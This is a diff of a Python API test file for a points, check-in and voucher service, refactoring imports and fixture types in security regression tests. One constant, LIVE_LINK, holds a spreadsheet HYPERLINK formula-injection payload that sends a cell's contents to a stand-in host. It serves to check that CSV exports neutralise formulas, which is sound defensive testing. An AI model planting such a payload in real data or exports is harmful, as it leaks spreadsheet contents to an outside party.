@@ -10,15 +10,19 @@ from typing import Any
 from zoneinfo import ZoneInfo
 
 from service import clock
-from tests.api.test_checkin_api import balance, count, create, freeze_at_step_start
-from tests.api.test_partner_api import claim, make_offer
-from tests.api.test_store_api import fund, make_product
-from tests.conftest import add_person
+from tests.support.activities import checked_in_count as count
+from tests.support.activities import create_activity as create
+from tests.support.activities import freeze_at_step_start
+from tests.support.balances import api_available as balance
+from tests.support.balances import fund
+from tests.support.store import claim_voucher as claim
+from tests.support.store import make_offer, make_product
+from tests.support.world import World, add_person
 
 LIVE_LINK = '=HYPERLINK("http://x.example/?"&B2,"点")'
 
 
-async def _kiosk_token(client: Any, world: Any, aid: str) -> str:
+async def _kiosk_token(client: Any, world: World, aid: str) -> str:
     r = await client.get(f"/api/v1/activities/{aid}/kiosk", headers=world.h["organizer"])
     return str(r.json()["token"])
 
@@ -27,7 +31,7 @@ def _csv_rows(data: bytes) -> list[list[str]]:
     return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
 
 
-async def test_organizer_cannot_mint_50000_points_at_his_own_kiosk(client: Any, world: Any) -> None:
+async def test_organizer_cannot_mint_50000_points_at_his_own_kiosk(client: Any, world: World) -> None:
     a = await create(client, world, points=50_000)
     assert a["status"] == "pending_approval"
     token = await _kiosk_token(client, world, a["id"])
@@ -52,7 +56,7 @@ async def test_organizer_cannot_mint_50000_points_at_his_own_kiosk(client: Any, 
     assert shown.json()["points_cap"] == 80
 
 
-async def test_organizer_checking_in_himself_waits_for_a_second_organizer(client: Any, world: Any) -> None:
+async def test_organizer_checking_in_himself_waits_for_a_second_organizer(client: Any, world: World) -> None:
     a = await create(client, world)
     token = await _kiosk_token(client, world, a["id"])
     r = await client.post("/api/v1/checkins", json={"token": token}, headers=world.h["organizer"])
@@ -71,7 +75,7 @@ async def test_organizer_checking_in_himself_waits_for_a_second_organizer(client
     assert await balance(client, world, "organizer") == 8
 
 
-async def test_close_with_absent_people_over_http_and_on_the_page(client: Any, world: Any) -> None:
+async def test_close_with_absent_people_over_http_and_on_the_page(client: Any, world: World) -> None:
     a = await create(client, world)
     token = await _kiosk_token(client, world, a["id"])
     for name in ("alice", "bob"):
@@ -114,7 +118,7 @@ def _another_browser(client: Any, cookies: dict[str, str]) -> None:
         client.cookies.set(name, value)
 
 
-async def test_a_copied_scan_cookie_checks_nobody_else_in(client: Any, world: Any) -> None:
+async def test_a_copied_scan_cookie_checks_nobody_else_in(client: Any, world: World) -> None:
     freeze_at_step_start()
     a = await create(client, world)
     token = await _kiosk_token(client, world, a["id"])
@@ -133,7 +137,7 @@ async def test_a_copied_scan_cookie_checks_nobody_else_in(client: Any, world: An
     assert await balance(client, world, "bob") == 0 and await balance(client, world, "carol") == 0
 
 
-async def test_a_scan_cookie_from_another_device_is_refused(client: Any, world: Any) -> None:
+async def test_a_scan_cookie_from_another_device_is_refused(client: Any, world: World) -> None:
     freeze_at_step_start()
     a = await create(client, world)
     token = await _kiosk_token(client, world, a["id"])
@@ -145,7 +149,7 @@ async def test_a_scan_cookie_from_another_device_is_refused(client: Any, world: 
     assert await count(client, world, a["id"]) == 0 and await balance(client, world, "bob") == 0
 
 
-async def test_formula_names_are_neutralised_in_every_csv(client: Any, world: Any, maker: Any) -> None:
+async def test_formula_names_are_neutralised_in_every_csv(client: Any, world: World, maker: Any) -> None:
     async with maker() as db:
         await add_person(db, world, LIVE_LINK, "13900000099", "member")
         await db.commit()
@@ -180,7 +184,7 @@ async def test_formula_names_are_neutralised_in_every_csv(client: Any, world: An
     assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
 
 
-async def test_staff_lists_show_codes_masked(client: Any, world: Any, maker: Any) -> None:
+async def test_staff_lists_show_codes_masked(client: Any, world: World, maker: Any) -> None:
     await fund(maker, world, "alice", 1000)
     product = await make_product(client, world)
     order = (
